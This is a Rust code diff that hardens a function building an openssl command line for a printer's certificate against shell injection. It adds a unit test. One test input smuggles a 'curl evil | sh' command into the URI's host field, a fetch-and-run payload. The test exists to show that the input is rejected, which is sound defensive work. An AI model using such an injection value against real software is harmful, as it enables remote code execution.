@@ -164,6 +164,14 @@ fn save_certificate_line(uri: &str) -> String {
         .split('/')
         .next()
         .unwrap_or_default();
+    // The line is pasted into a shell: a host of anything but a host
+    // name's letters is not written into it.
+    if !host_port
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || ".-:[]".contains(c))
+    {
+        return "openssl s_client -connect HOST:PORT </dev/null 2>/dev/null | openssl x509 > printer.pem && openssl x509 -in printer.pem -noout -fingerprint -sha256".into();
+    }
     let host_port = if host_port.contains(':') && !host_port.ends_with(']') {
         host_port.to_string()
     } else {
@@ -172,4 +180,22 @@ fn save_certificate_line(uri: &str) -> String {
     format!(
         "openssl s_client -connect {host_port} </dev/null 2>/dev/null | openssl x509 > printer.pem && openssl x509 -in printer.pem -noout -fingerprint -sha256"
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::save_certificate_line;
+
+    #[test]
+    fn the_certificate_line_names_the_port_and_nothing_a_shell_would_run() {
+        assert!(save_certificate_line("ipps://printer.lan/ipp/print")
+            .starts_with("openssl s_client -connect printer.lan:631 "));
+        assert!(save_certificate_line("ipps://[fd00::5]:8631/ipp/print")
+            .starts_with("openssl s_client -connect [fd00::5]:8631 "));
+        let hostile = save_certificate_line("ipps://x;curl${IFS}evil|sh/ipp/print");
+        assert!(
+            hostile.contains("HOST:PORT") && !hostile.contains("curl"),
+            "{hostile}"
+        );
+    }
 }
